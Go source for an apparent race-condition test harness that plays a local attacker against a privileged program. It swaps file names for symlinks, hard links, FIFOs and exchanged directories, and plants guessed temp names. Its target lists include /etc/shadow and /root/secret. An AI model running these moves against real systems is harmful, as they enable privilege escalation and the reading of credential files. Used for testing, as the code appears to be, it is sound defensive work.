package attack

import (
	"fmt"
	"math/rand"
	"path"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// A move is one thing that the user does to a name in a directory of theirs. Errors are
// not looked at: the name may be gone, or the kernel may forbid it.
type move func(a *attacker, dir, name string)

// moves are all of them, by the name that the report counts them under.
var moves = map[string]move{
	"symlink": replaceBySymlink,
	// No name is taken beforehand, which a program that refuses to open it would notice.
	"late symlink": replaceBySymlink,
	"hard link": func(a *attacker, dir, name string) {
		made := a.spare(dir)
		if unix.Linkat(unix.AT_FDCWD, a.prey(), unix.AT_FDCWD, made, 0) == nil {
			a.replace(made, dir+"/"+name)
		} else if unix.Linkat(unix.AT_FDCWD, dir+"/"+name, unix.AT_FDCWD, made, 0) == nil {
			// A second name for what the program has there.
			a.kept = append(a.kept, made)
		}
	},
	"FIFO": func(a *attacker, dir, name string) {
		made := a.spare(dir)
		if unix.Mkfifo(made, 0o666) == nil {
			a.replace(made, dir+"/"+name)
		}
	},
	"directory": func(a *attacker, dir, name string) {
		// One that is ready comes sooner than the program opens its own.
		if unix.Renameat2(unix.AT_FDCWD, dir+"/"+readyName, unix.AT_FDCWD, dir+"/"+name, unix.RENAME_EXCHANGE) == nil {
			return
		}
		made := a.spare(dir)
		if unix.Mkdir(made, 0o777) == nil {
			if a.rng.Intn(2) == 0 {
				_ = unix.Symlink(a.prey(), made+"/"+a.pick([]string{"TOKEN", "inner", name}))
			}
			a.replace(made, dir+"/"+name)
		}
	},
	// A file of the user's own, which stays open and may have a lease.
	"open file": func(a *attacker, dir, name string) {
		made := a.spare(dir)
		fd, err := unix.Open(made, unix.O_RDWR|unix.O_CREAT|unix.O_EXCL|unix.O_CLOEXEC, 0o666)
		if err != nil {
			return
		}
		_, _ = unix.Write(fd, []byte("of the user\n"))
		a.hold(fd, name)
		a.replace(made, dir+"/"+name)
	},
	"lease": func(a *attacker, dir, name string) {
		made := a.spare(dir)
		fd, err := unix.Open(made, unix.O_RDWR|unix.O_CREAT|unix.O_EXCL|unix.O_CLOEXEC, 0o600)
		if err != nil {
			return
		}
		_, _ = unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_WRLCK)
		a.hold(fd, name)
		a.replace(made, dir+"/"+name)
	},
	"access list": func(_ *attacker, dir, _ string) {
		_ = setACL(dir, "system.posix_acl_default", user, 7)
		_ = setACL(dir, "system.posix_acl_access", user, 7)
	},
	// Two names change places: a draft with a target, say.
	"exchange": func(a *attacker, dir, name string) {
		other := dir + "/" + a.pick(append(a.names(dir), targetNames...))
		a.exchange(dir+"/"+name, other)
	},
	"steal": func(a *attacker, dir, name string) {
		made := a.spare(dir)
		if unix.Rename(dir+"/"+name, made) == nil {
			a.kept = append(a.kept, made)
			if a.rng.Intn(3) == 0 {
				a.pause()
				_ = unix.Rename(made, dir+"/"+name)
			}
		}
	},
	"remove": func(_ *attacker, dir, name string) { _ = unix.Unlink(dir + "/" + name) },
	// The directory itself gives way to a symlink to one of root's, or to another of the user's.
	"swap directory": func(a *attacker, dir, _ string) {
		if path.Dir(dir) == "/opt" || !strings.HasPrefix(dir, "/opt/") {
			dir = "/opt/app/conf"
		}
		made := a.spare(path.Dir(dir))
		if a.rng.Intn(3) == 0 {
			_ = unix.Mkdir(made, 0o777)
		} else {
			_ = unix.Symlink(a.pick([]string{"/etc/open", "/var/lib/private", "/etc", "/root", "/"}), made)
		}
		a.exchange(made, dir)
	},
	"mode of directory": func(a *attacker, dir, _ string) {
		_ = unix.Chmod(dir, []uint32{0o777, 0o1777, 0o2777, 0o700, 0o755}[a.rng.Intn(5)])
	},
	// As the shell program calls what it stages, after its directory in /run.
	"guessed name": func(a *attacker, dir, _ string) {
		if a.Kind == "late symlink" {
			return
		}
		for _, tag := range a.names("/run") {
			if !strings.HasPrefix(tag, "ageenv.") {
				continue
			}
			for _, suffix := range []string{"n0", "n1", "n2", "n3", "n4", "o1", "o2"} {
				name := fmt.Sprintf("%s/.%s.%s", dir, tag, suffix)
				a.mine[path.Base(name)] = true
				kind := a.Kind
				if kind == "" {
					kind = a.pick([]string{"symlink", "FIFO", "open file"})
				}
				switch kind {
				case "symlink":
					_ = unix.Symlink(a.prey(), name)
				case "FIFO":
					_ = unix.Mkfifo(name, 0o666)
				case "open file":
					if fd, err := unix.Open(name, unix.O_RDWR|unix.O_CREAT|unix.O_EXCL|unix.O_CLOEXEC, 0o666); err == nil {
						a.hold(fd, name)
					}
				}
			}
		}
	},
}

func replaceBySymlink(a *attacker, dir, name string) {
	made := a.spare(dir)
	if unix.Symlink(a.prey(), made) == nil {
		a.replace(made, dir+"/"+name)
	}
}

const readyName = ".xready"

// prepare makes a directory of the user's that holds a symlink.
func (a *attacker) prepare(dir string) {
	if unix.Mkdir(dir+"/"+readyName, 0o777) == nil {
		_ = unix.Symlink(a.prey(), dir+"/"+readyName+"/inner")
	}
}

// prey is what the program is to be led to.
var prey = []string{"/etc/shadow", "/etc/open/inner", "/root/secret", "/var/lib/private", "/var/lib/private/inner", "/etc/open", "/var/lib/vacant"}

func (a *attacker) prey() string {
	if a.Prey != "" {
		return a.Prey
	}
	return a.pick(prey)
}

// setACL gives a user everything in an access list, as setfacl does: version 2, then tag,
// permissions and ID of each entry.
func setACL(p, name string, uid, owner uint32) error {
	text := []byte{2, 0, 0, 0}
	for _, entry := range [][3]uint32{{1, owner, ^uint32(0)}, {2, 7, uid}, {4, 7, ^uint32(0)}, {16, 7, ^uint32(0)}, {32, 5, ^uint32(0)}} {
		id := entry[2]
		text = append(text, byte(entry[0]), 0, byte(entry[1]), 0, byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
	}
	return unix.Setxattr(p, name, text, 0)
}

// spare returns a name in dir that nothing has. The attacker's own names start with ".x".
func (a *attacker) spare(dir string) string {
	a.made++
	return fmt.Sprintf("%s/.x%d", dir, a.made)
}

// replace puts what was made in the place of a name: over it, in exchange, or after it is gone.
func (a *attacker) replace(made, at string) {
	switch a.rng.Intn(3) {
	case 0:
		if unix.Rename(made, at) == nil {
			return
		}
	case 1:
		_ = unix.Rename(at, a.spare(path.Dir(at)))
		_ = unix.Rename(made, at)
		return
	}
	if unix.Renameat2(unix.AT_FDCWD, made, unix.AT_FDCWD, at, unix.RENAME_EXCHANGE) != nil {
		_ = unix.Rename(made, at)
	}
}

// exchange lets two names change places, and in half of the cases back again.
func (a *attacker) exchange(one, other string) {
	if unix.Renameat2(unix.AT_FDCWD, one, unix.AT_FDCWD, other, unix.RENAME_EXCHANGE) == nil && a.rng.Intn(2) == 0 {
		a.pause()
		_ = unix.Renameat2(unix.AT_FDCWD, one, unix.AT_FDCWD, other, unix.RENAME_EXCHANGE)
	}
}

// pause waits for at most a millisecond, or not at all.
func (a *attacker) pause() {
	time.Sleep(time.Duration(a.rng.Intn(3)*a.rng.Intn(500)) * time.Microsecond)
}

// hold keeps a descriptor to read from when the run is over.
func (a *attacker) hold(fd int, name string) {
	if len(a.held) < 500 {
		a.held = append(a.held, holding{fd, name})
	} else {
		_ = unix.Close(fd)
	}
}

func (a *attacker) pick(from []string) string { return from[a.rng.Intn(len(from))] }

// names lists a directory.
func (a *attacker) names(dir string) []string {
	fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return nil
	}
	defer func() { _ = unix.Close(fd) }()
	var names []string
	buffer := make([]byte, 16<<10)
	for {
		n, err := unix.ReadDirent(fd, buffer)
		if err != nil || n <= 0 {
			return names
		}
		_, _, names = unix.ParseDirent(buffer[:n], -1, names)
	}
}

// newSource is not for secrets: a run is to be the same again with its seed.
func newSource(seed int64) *rand.Rand { return rand.New(rand.NewSource(seed)) }
